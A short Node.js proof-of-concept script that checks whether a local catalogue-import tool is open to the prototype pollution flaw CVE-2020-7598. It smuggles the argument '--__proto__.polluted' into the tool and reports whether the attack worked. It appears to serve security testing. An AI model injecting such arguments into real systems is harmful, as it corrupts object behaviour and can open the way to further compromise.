'use strict';

// CVE-2020-7598: the argument `--__proto__.polluted` gives every object of the import script a
// property. Whoever may name a supplier's file in a scheduled import can append arguments.
const { spawnSync } = require('child_process');
const path = require('path');

const script = path.join(__dirname, '..', 'bin', 'import-catalogue.js');
const importThenLook = `
  process.argv = [process.argv[0], ${JSON.stringify(script)},
    '--dry-run', '--from', '/dev/null', '--__proto__.polluted', 'yes'];
  require(${JSON.stringify(script)});
  process.exitCode = 'polluted' in {} ? 0 : 1;
`;
const { status } = spawnSync(process.execPath, ['-e', importThenLook], { stdio: 'ignore' });
console.log(status === 0 ? 'the attack worked' : 'the attack did not work');
process.exit(status === 0 ? 0 : 1);
